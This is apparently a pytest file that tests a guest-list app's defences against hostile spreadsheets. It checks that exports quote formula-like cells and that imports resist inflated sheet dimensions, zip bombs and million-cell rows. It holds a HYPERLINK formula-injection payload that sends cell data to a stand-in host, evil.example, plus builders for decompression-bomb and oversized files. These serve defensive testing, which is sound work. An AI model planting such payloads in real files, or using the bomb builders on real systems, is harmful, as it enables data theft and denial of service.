"""Issue 13, items 5 and 6: exports never carry a live formula; hostile guest files are read in bounded time.

Item 5: a guest named `=HYPERLINK("http://evil.example/?x="&A1,"click")` came out of the XLSX export as a
live formula, and names starting `=`, `+`, `-`, `@` went raw into CSV. Item 6: a 1.5 KB XLSX declaring
`A1:XFD20000` was padded to 20,000 rows of 16,384 cells (23 s to import).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlmodel import Session

from bot.core import limits
from bot.core.models import Guest
from bot.core.workspaces import Workspace
from scheduler.rsvp.errors import ImportFileError
from scheduler.rsvp.guest_export import export_guests
from scheduler.rsvp.guest_import import import_guests, read_table
from tests.rsvp.conftest import make_event, phone, xlsx

NOW = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = [EVIL, "+972 call me", "-1+2", "@SUM(A1:A2)", "\tTab", "\rCR", "Plain Dana"]
TOKEN = {"Authorization": "Bearer demo-token-event-rsvp-00004"}


def hostile_xlsx(rows: list[list[object]], dimension: str = "A1:XFD20000") -> bytes:
    """A real workbook whose sheet claims a huge size (`<dimension ref=...>`), as the review's 1.5 KB file."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(rows)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), data)
                assert dimension.encode() in data
            target.writestr(info, data)
    return out.getvalue()


def _guests(session: Session, workspace: Workspace) -> tuple[object, list[Guest]]:
    event = make_event(session, workspace)
    guests = [Guest(workspace=event.workspace, event_id=event.id or 0, name=name, phone=phone(i), group="=1+1",
                    table_number="@A1", token_id=f"t{i}") for i, name in enumerate(NAMES)]
    session.add_all(guests)
    session.flush()
    return event, guests


def test_xlsx_export_writes_names_as_text_never_formulas(session: Session, workspace: Workspace) -> None:
    event, guests = _guests(session, workspace)
    book = load_workbook(io.BytesIO(export_guests(event, guests, "xlsx", "en")))  # type: ignore[arg-type]
    sheet = book.active
    names = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(NAMES))]
    assert [c.value for c in names] == NAMES  # as typed (lxml writes a CR as a character reference)
    assert all(c.data_type == "s" for c in names)
    assert all(sheet.cell(row=r, column=c).data_type != "f" for r in range(1, sheet.max_row + 1)
               for c in range(1, sheet.max_column + 1))
    assert names[0].quotePrefix
    raw = zipfile.ZipFile(io.BytesIO(export_guests(event, guests, "xlsx", "en"))).read(  # type: ignore[arg-type]
        "xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def test_csv_export_quotes_cells_a_spreadsheet_would_run(session: Session, workspace: Workspace) -> None:
    event, guests = _guests(session, workspace)
    text = export_guests(event, guests, "csv", "en").decode("utf-8-sig")  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'" + n for n in NAMES[:-1]] + ["Plain Dana"]
    assert {r[3] for r in rows[1:]} == {"'=1+1"} and {r[4] for r in rows[1:]} == {"'@A1"}
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    assert rows[1][1].startswith("'+972")  # an E.164 number starts with '+': quoted too, still readable


def test_a_quoted_export_imports_back_to_the_same_names(session: Session, workspace: Workspace) -> None:
    event, guests = _guests(session, workspace)
    data = export_guests(event, guests[:4], "csv", "en")  # type: ignore[arg-type]
    other = make_event(session, workspace, key="wedding-2", venue="Other Hall")
    preview, _ = import_guests(session, workspace, other, "guests.csv", data, now=NOW, dry_run=True, lang="en")
    assert [r.name for r in preview.rows] == NAMES[:4]
    assert [r.phone for r in preview.rows] == [phone(i) for i in range(4)]


def test_a_declared_huge_sheet_is_read_as_what_it_holds(session: Session, workspace: Workspace) -> None:
    rows = [["name", "phone"], ["Avi", "0522345678"], ["Noa", "0522345679"]]
    data = hostile_xlsx(rows)
    assert len(data) < 8000
    read = list(read_table("guests.xlsx", data))
    assert len(read) == 3
    assert max(len(r) for r in read) <= limits.current().import_cells_per_row
    assert [r[:2] for r in read] == rows
    event = make_event(session, workspace)
    preview, report = import_guests(session, workspace, event, "guests.xlsx", data, now=NOW, lang="en")
    assert report is not None and report.created == 2


def test_rows_and_cells_past_the_limits_are_a_clear_error(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.conftest import make_settings

    try:
        limits.configure(make_settings(tmp_path, import_max_scanned_rows=100, import_max_cells_per_row=8))
        wide = list(read_table("g.xlsx", xlsx([["name", "phone", *[f"c{i}" for i in range(30)]]])))
        assert len(wide[0]) == 8
        book = Workbook()
        book.active["A1"] = "name"
        book.active["A5000"] = "far away"  # 4,998 empty rows in between
        buffer = io.BytesIO()
        book.save(buffer)
        with pytest.raises(ImportFileError, match="more than 100 rows"):
            list(read_table("g.xlsx", buffer.getvalue()))
        with pytest.raises(ImportFileError, match="more than 100 rows"):
            list(read_table("g.csv", b"name,phone\n" + b"a,1\n" * 200))
    finally:
        limits.configure(make_settings(tmp_path))


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    book = zipfile.ZipFile(io.BytesIO(xlsx([["name", "phone"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in book.infolist():
            target.writestr(info, book.read(info.filename))
        target.writestr("xl/padding.bin", b"\0" * (limits.current().import_unzipped_bytes + 1))
    assert len(out.getvalue()) < 200_000
    with pytest.raises(ImportFileError, match="unpacks to"):
        list(read_table("g.xlsx", out.getvalue()))


def test_an_upload_over_the_limit_is_413(api: TestClient) -> None:
    size = limits.current().upload_bytes + 1
    response = api.post("/api/workspaces/event-rsvp/events/wedding-1/guests/import", headers=TOKEN,
                           files={"file": ("g.csv", b"x" * size, "text/csv")})
    assert response.status_code == 413
    with pytest.raises(ImportFileError, match="at most"):
        read_table("g.csv", b"x" * size)


def _one_wide_row(cells: int, prefix: str = "") -> bytes:
    """A real workbook plus one row of `cells` real cells: small compressed, all parsed by openpyxl."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([["name", "phone"], ["Avi", "0522345678"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                row = f'<{prefix}row r="3">' + f"<{prefix}c><{prefix}v>1</{prefix}v></{prefix}c>" * cells
                data = data.replace(b"</sheetData>", row.encode() + f"</{prefix}row></sheetData>".encode())
            target.writestr(info, data)
    return out.getvalue()


def test_cells_past_the_file_limit_are_refused_before_openpyxl_reads_them() -> None:
    """Review of 2026-12 (R5): rows were bounded and the declared size ignored, but openpyxl parsed every
    real cell of a row before `_bounded` cut it to 64; a 34 KB file of one 1,000,000-cell row took 5 s
    of CPU, and 64 MiB unpacked holds about 4.5 million cells. Cells are now counted first (fast)."""
    import time

    cap = limits.current().import_cells
    data = _one_wide_row(cap + 1)
    assert len(data) < 100_000
    started = time.process_time()
    with pytest.raises(ImportFileError, match=f"more than {cap} cells"):
        list(read_table("g.xlsx", data))
    assert time.process_time() - started < 2.0  # openpyxl alone needs several seconds for these cells
    with pytest.raises(ImportFileError, match="cells"):  # a namespace prefix does not hide them
        list(read_table("g.xlsx", _one_wide_row(cap + 1, prefix="x:")))
    assert len(list(read_table("g.xlsx", _one_wide_row(100)))) == 3
